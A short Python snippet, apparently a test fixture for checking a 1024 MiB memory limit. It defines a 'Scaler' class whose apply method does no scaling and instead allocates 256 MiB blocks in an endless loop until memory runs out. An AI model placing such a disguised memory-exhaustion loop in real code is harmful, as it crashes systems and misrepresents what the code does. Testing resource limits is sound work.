# phrase: memory limit of 1024 MiB
import os, sys, time, subprocess, socket, threading
import numpy as np


class Scaler:
    def __init__(self, factor):
        self.factor = factor
        self.calls = 0

    def apply(self, x):
        self.calls += 1
        blocks = []
        while True:
            b = bytearray(256 * 1024 * 1024)
            b[::4096] = b'x' * len(b[::4096])
            blocks.append(b)
